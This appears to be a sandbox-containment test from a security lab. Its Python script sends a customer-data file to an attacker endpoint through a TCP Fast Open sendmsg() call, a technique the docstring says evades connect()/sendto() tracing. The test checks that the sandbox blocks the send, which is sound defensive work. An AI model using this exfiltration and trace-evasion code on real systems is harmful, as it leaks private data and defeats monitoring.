# lab:title: Upload the customer data in a TCP Fast Open sendmsg(), no connect()
# lab:threat: exfil
# lab:layer: network
# lab:consequence: test
# adversary: --on all => CONTAINED network ~ sendmsg
# adversary: --on network => CONTAINED network ~ sendmsg
# adversary: --off network => ESCAPED exfil
"""The red team's F6 (n2): sendmsg(MSG_FASTOPEN) with the attacker's
address on a fresh TCP socket is a connect() and a send in one call; no
connect() and no sendto() for the trace to see. With the network open the
POST reaches the attacker; with No-network on, the sandbox's own namespace
refuses it (ENETUNREACH), and the lab must see that refusal."""
import os
import socket
import urllib.parse

u = urllib.parse.urlsplit(os.environ["LAB_ATTACKER"])
body = open(os.environ["LAB_DATA"], "rb").read()
req = b"POST " + (u.path or "/").encode() + b" HTTP/1.0\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % len(body) + body
t = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
try:
    n = t.sendmsg([req], [], socket.MSG_FASTOPEN, ("127.0.0.1", u.port or 80))
    t.sendall(req[n:])
    t.shutdown(socket.SHUT_WR)
    print("sent", len(req), t.recv(200), flush=True)
except OSError as e:
    print("refused:", e, flush=True)
